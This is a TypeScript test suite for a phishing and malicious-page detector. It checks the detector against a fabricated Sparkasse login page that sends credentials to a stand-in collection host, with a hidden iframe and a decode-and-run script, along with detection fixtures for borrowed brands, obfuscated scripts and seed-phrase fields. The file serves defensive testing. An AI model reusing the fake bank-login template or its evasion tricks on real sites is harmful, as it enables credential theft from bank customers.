import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { judgePage, type PageContext, pageFacts } from './index.ts';

function judged(html: string, url: string, context: Partial<PageContext> = {}) {
  const facts = pageFacts(html, url);
  const verdict = judgePage(facts, {
    url,
    site: undefined,
    generated: undefined,
    isPopular: false,
    isNew: true,
    ...context,
  });
  return { ...verdict, codes: verdict.signs.map(({ code }) => code), facts };
}

/** A login as banks have it, made for this test. */
function bankPage(parts: { readonly action: string; readonly more?: string }): string {
  return `<!doctype html><html><head><title>Anmeldung | Sparkasse</title>
    <meta property="og:site_name" content="Sparkasse"><link rel="shortcut icon" href="https://www.sparkasse.de/favicon.ico">
    </head><body oncontextmenu="return false"><h1>Online-Banking</h1>
    <img src="https://www.sparkasse.de/logo.svg" alt="">
    <form method="POST" action="${parts.action}"><input name="user"><input type="password" name="pin"></form>
    ${parts.more ?? ''}</body></html>`;
}

test('an imitation of a bank is called what it is, and says why', () => {
  const page = bankPage({
    action: 'https://collect.example.net/save.php',
    more: '<iframe src="https://track.example.org/" width="0" height="0"></iframe><script>eval(atob("YWxlcnQoMSk="))</script>',
  });
  const { verdict, score, categories, codes, signs } = judged(
    page,
    'https://sparkasse-konto.example.com/login',
  );
  assert.deepEqual([verdict, score, categories[0]], ['malicious', 100, 'phishing']);
  for (const code of [
    'brand-asks',
    'form-elsewhere',
    'brand-borrowed',
    'blocks-inspection',
    'hidden-frame',
    'script-decode-and-run',
  ]) {
    assert.ok(codes.includes(code), code);
  }
  assert.match(
    signs[0]!.text,
    /calls itself sparkasse, asks for credentials, and is not at home \(sparkasse\.com, sparkasse\.de\)/,
  );
});

test('the same page at home is clean', () => {
  const { verdict, score } = judged(bankPage({ action: '/login' }), 'https://www.sparkasse.de/login');
  assert.equal(verdict, 'clean');
  assert.ok(score < 40);
});

test('pages that are only like that are clean', () => {
  const login =
    '<form method=post action=/session><input name=email><input type=password name=password></form>';
  for (const [name, html, url] of [
    [
      'a login of its own',
      `<title>Sign in - Acme Portal</title>${login}`,
      'https://portal.acme.example/login',
    ],
    [
      'a login that offers others',
      `<title>Log in</title><h1>Continue with Google</h1>${login}<a href="https://accounts.google.com/o/oauth2">Google</a>`,
      'https://shop.example/login',
    ],
    [
      'news about a bank',
      '<title>PayPal raises its fees - The Daily Example</title><h1>PayPal raises its fees</h1><form action=/in><input type=password></form>',
      'https://news.example/paypal-fees',
    ],
    [
      'a shop that takes cards',
      '<title>Checkout</title><form action=/pay method=post><input name=cardnumber><input name=cvc></form><img src="https://www.visa.com/logo.png">',
      'https://shop.example/checkout',
    ],
    [
      'a page with a counter and a library',
      '<title>Blog</title><noscript><iframe src="https://www.googletagmanager.com/ns.html" height="0" width="0" style="display:none"></iframe></noscript><script>!function(e,t){"use strict";window.x=function(){location.href="https://other.example/"}}()</script>',
      'https://blog.example/',
    ],
    [
      'a move to another domain',
      '<meta http-equiv="refresh" content="0; url=https://www.new-name.example/">',
      'https://old-name.example/',
    ],
    ['a login of the intranet over plain HTTP', `<title>Wiki</title>${login}`, 'http://10.1.2.3/login'],
    ['nothing', '', 'https://example.com/'],
  ] as const) {
    const { verdict, codes } = judged(html, url);
    assert.equal(verdict, 'clean', `${name}: ${codes.join(', ')}`);
  }
});

test('each sign is seen', () => {
  const login = '<input type=password name=p>';
  for (const [code, html, url] of [
    ['password-in-clear', `<form>${login}</form>`, 'http://shop.example/'],
    [
      'form-in-clear',
      `<form action="http://shop.example/in" method=post>${login}</form>`,
      'https://shop.example/',
    ],
    ['form-odd-target', `<form action="mailto:x@y.example">${login}</form>`, 'https://shop.example/'],
    [
      'form-elsewhere',
      `<base href="https://evil.example/"><form action="in">${login}</form>`,
      'https://shop.example/',
    ],
    ['seed-phrase', '<form><input name="seed_phrase"></form>', 'https://shop.example/'],
    [
      'icon-borrowed',
      `<title>Log in</title><link rel=icon href="https://www.netflix.com/i.ico"><form>${login}</form>`,
      'https://a.example/',
    ],
    ['brand-imitated', '<title>PayPal</title>', 'https://paypa1.example/'],
    ['data-document', '<iframe src="data:text/html;base64,PGI+"></iframe>', 'https://a.example/'],
    ['redirect', '<script>window.location.replace("https://b.example/x")</script>', 'https://a.example/'],
    ['script-renamed', `<script>${'var _0x1a2b=1;'.repeat(30)}</script>`, 'https://a.example/'],
    [
      'script-written-unescaped',
      '<script>document.write(unescape("%3Cb%3E"))</script>',
      'https://a.example/',
    ],
    ['script-escaped', `<script>x="${'\\x41'.repeat(60)}"</script>`, 'https://a.example/'],
  ] as const) {
    assert.ok(judged(html, url).codes.includes(code), code);
  }
  const site = { score: 99, probability: 0.99, verdict: 'malicious', reasons: [] } as const;
  assert.ok(judged('', 'https://a.example/', { site }).codes.includes('address'));
  assert.ok(!judged('', 'https://a.example/', { site, isPopular: true }).codes.includes('address'));
  assert.ok(judged('', 'https://a.example/', { generated: site }).codes.includes('generated-name'));
  assert.ok(judged(`<form>${login}</form>`, 'https://a.example/').codes.includes('new-domain'));
});

const DOCS = '/usr/share/doc';

test(
  'documentation of this machine is clean',
  { skip: existsSync(DOCS) ? false : `${DOCS} is not there` },
  () => {
    const pages = pagesBelow(DOCS, 300);
    for (const path of pages) {
      const { verdict, codes } = judged(readFileSync(path, 'utf8'), `https://docs.example${path}`);
      assert.equal(verdict, 'clean', `${path}: ${codes.join(', ')}`);
    }
  },
);

function pagesBelow(folder: string, most: number): readonly string[] {
  const found: string[] = [];
  for (const entry of readdirSync(folder, { withFileTypes: true, recursive: true })) {
    if (found.length >= most) break;
    if (entry.isFile() && entry.name.endsWith('.html')) found.push(join(entry.parentPath, entry.name));
  }
  return found;
}
